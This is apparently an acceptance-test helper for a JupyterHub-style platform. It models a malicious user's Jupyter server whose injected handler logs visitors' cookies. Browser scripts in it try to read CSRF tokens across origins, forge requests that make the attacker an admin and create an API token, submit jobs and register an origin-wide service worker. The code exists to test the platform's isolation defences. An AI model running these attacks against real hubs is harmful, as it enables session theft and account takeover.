"""Mallory's Jupyter server: a real session whose configuration adds a handler without authentication, and the scripts
of its pages. Each script does what an attacker would: it tries to read, use or leave something where it must not.
"""

from __future__ import annotations

from playwright.sync_api import Page
from tests.acceptance.served import Served
from tests.fakes.waiting import wait_until

from commonage.wire.hub import PORTAL_PATH

# Read by Jupyter at the start of her session. Every request is written down with its cookies; headers and redirects are
# what the address asks for.
_CONFIGURATION = """
import json, os
from jupyter_server import serverapp
from tornado.web import RequestHandler

class Evil(RequestHandler):
    def check_xsrf_cookie(self):
        pass

    def get(self, what):
        with open(os.path.expanduser("~/cookies.log"), "a") as log:
            log.write(self.request.headers.get("Cookie", "") + "\\n")
        self.set_header("Service-Worker-Allowed", "/")
        self.set_header("Cross-Origin-Opener-Policy", "same-origin")
        if self.get_argument("clear", ""):
            self.set_header("Clear-Site-Data", '"cookies"')
        if what == "redirect":
            self.redirect(self.get_argument("to"), status=307)
        elif what == "worker.js":
            self.set_header("Content-Type", "text/javascript")
            self.write("onfetch = (event) => event.respondWith(new Response('taken over'));")
        else:
            self.write("<!doctype html><title>Evil</title><p>A harmless page")

    post = get

ordinary = serverapp.ServerWebApplication.init_handlers
def init_handlers(self, services, settings):
    return [(settings["base_url"] + "evil/(.*)", Evil), *ordinary(self, services, settings)]
serverapp.ServerWebApplication.init_handlers = init_handlers
c.ServerApp.allow_unauthenticated_access = True
"""

# Every way known to us to read another page of the same browser; gives what was found by way. HUB is the origin of hub
# and portal, HERE the path of the malicious handler.
READ = """
async ([hub, here, path, pattern]) => {
  const url = hub + path, loot = {}, find = new RegExp(pattern);
  const keep = (way, text) => { const found = find.exec(text || ""); if (found) loot[way] = found[1]; };
  const ways = {
    plain: {}, opaque: { mode: "no-cors" }, silent: { referrerPolicy: "no-referrer" },
    pretended: { referrer: hub + "/services/commonage/launch" }, asPage: { headers: { Accept: "text/html" } },
    cached: { mode: "same-origin", cache: "only-if-cached" }, kept: { cache: "force-cache" },
    posted: { method: "POST", body: new URLSearchParams({ kind: "job" }) }, htmx: { headers: { "HX-Request": "true" } },
  };
  const get = async (way, address, options) => {
    try { keep(way, await (await fetch(address, { credentials: "include", ...options })).text()); } catch { }
  };
  for (const [way, options] of Object.entries(ways)) {
    await get(way, url, options);
    await get(`${way}, redirected`, here + "redirect?to=" + encodeURIComponent(url), options);
  }
  const before = location.href;
  for (const place of ["/services/commonage/launch", "/hub/home"]) {
    history.pushState({}, "", place);
    await get(`moved to ${place}`, url, {});
    keep(`cookie at ${place}`, document.cookie.replace(/_xsrf=/, 'xsrf_token: "'));
  }
  history.replaceState({}, "", before);
  const soon = (read) => new Promise((done) => {
    let times = 0;
    const timer = setInterval(() => {
      let text = "";
      try { text = read() || ""; } catch { }
      if (find.test(text) || ++times > 15) { clearInterval(timer); done(text); }
    }, 100);
  });
  const shown = ["iframe", "object", "embed"].map(async (tag) => {
    const frame = document.createElement(tag);
    frame[tag === "object" ? "data" : "src"] = url;
    document.body.append(frame);
    keep(tag, await soon(() => (frame.contentDocument || frame.getSVGDocument()).documentElement.outerHTML));
    frame.remove();
  });
  const opened = window.open(url);
  keep("window", await soon(() => opened.document.documentElement.outerHTML));
  try { opened.close(); } catch { }
  await Promise.all(shown);
  return loot;
}
"""

# Makes a change with a token that was found, or without any.
SEND = """
async ([url, method, headers, body]) => {
  for (const mode of ["cors", "no-cors"]) {
    try { await fetch(url, { method, mode, headers, body, credentials: "include" }); } catch { }
  }
}
"""

# As a form, in a window of its own: a navigation, which browsers allow without a check.
SUBMIT_FORM = """
([url, fields]) => {
  const form = document.createElement("form");
  Object.assign(form, { action: url, method: "post", target: "_blank" });
  for (const [name, value] of Object.entries(fields)) {
    form.append(Object.assign(document.createElement("input"), { name, value }));
  }
  document.body.append(form);
  form.submit();
}
"""

REGISTER_WORKER = """
async (here) => {
  const address = here + "worker.js";
  try { return (await navigator.serviceWorker.register(address, { scope: "/" })).scope; } catch { return ""; }
}
"""

PORTAL_TOKEN = 'name="csrf" value="([0-9a-f]{20,})"'
HUB_TOKEN = 'xsrf_token: ?"([^"]{20,})"'


class MaliciousServer:
    """Her running session; `origin` is where browsers reach it, `hub` where they reach hub and portal."""

    def __init__(self, installation: Served, origin: str, hub: str) -> None:
        self._installation = installation
        self.hub = hub
        self.path = "/user/mallory/evil/"
        self.link = f"{origin}{self.path}"
        self._home = installation.data / "workspaces" / "mallory"

    def start(self) -> None:
        """Start her session with the handler in it; it runs on return."""
        configuration = self._home / ".jupyter" / "jupyter_server_config.py"
        configuration.parent.mkdir(parents=True, exist_ok=True)
        configuration.write_text(_CONFIGURATION)
        mallory = self._installation.client("mallory")
        options = {"environment": "notebook", "cpus": "0.5", "memory": "1GiB"}
        asked = self._installation.hub("POST", "/users/mallory/server", json=options)
        assert asked.status_code in (201, 202), asked.text
        wait_until(lambda: list(mallory.workloads(kind="session", state=["running"])), within_s=300)
        wait_until(lambda: self._installation.hub("GET", "/users/mallory").json()["servers"][""]["ready"])

    def stop(self) -> None:
        self._installation.hub("DELETE", "/users/mallory/server")
        wait_until(lambda: not list(self._installation.client("mallory").workloads(state=["running"])))

    def received_cookies(self) -> str:
        """All cookies that browsers ever sent to her."""
        return (self._home / "cookies.log").read_text()

    def read(self, page: Page, path: str, pattern: str) -> dict[str, str]:
        """Matches of `pattern` that her page can read in the page at `path` of hub or portal, by kind of request."""
        found: dict[str, str] = page.evaluate(READ, [self.hub, self.path, path, pattern])
        return found

    def send(self, page: Page, method: str, path: str, headers: dict[str, str], body: str | None) -> None:
        page.evaluate(SEND, [f"{self.hub}{path}", method, headers, body])

    def submit_job(self, page: Page, token: str) -> None:
        """Submit a job as the user who views her page, with this token of the portal's forms."""
        fields = {"csrf": token, "kind": "job", "command": "touch stolen", "name": "stolen"}
        body = "&".join(f"{name}={value.replace(' ', '+')}" for name, value in fields.items())
        form = {"Content-Type": "application/x-www-form-urlencoded"}
        self.send(page, "POST", f"{PORTAL_PATH}launch", form, body)
        with page.context.expect_page() as opened:
            page.evaluate(SUBMIT_FORM, [f"{self.hub}{PORTAL_PATH}launch", fields])
        opened.value.wait_for_load_state()
        opened.value.close()

    def take_over_platform(self, page: Page, token: str) -> None:
        """Let the user who views her page make her an admin and create a token, with this token of the hub's pages."""
        headers = {"X-XSRFToken": token, "Content-Type": "application/json"}
        self.send(page, "PATCH", "/hub/api/users/mallory", headers, '{"admin": true}')
        self.send(page, "POST", "/hub/api/users/admin/tokens", headers, '{"note": "stolen"}')
        plain = {"Content-Type": "text/plain"}
        self.send(page, "POST", f"/hub/api/users/admin/tokens?_xsrf={token}", plain, '{"note": "stolen"}')

    def takes_over_origin(self, page: Page) -> str:
        """The scope of a service worker that she registers for all of the origin; empty if the browser refuses."""
        scope: str = page.evaluate(REGISTER_WORKER, self.path)
        return scope
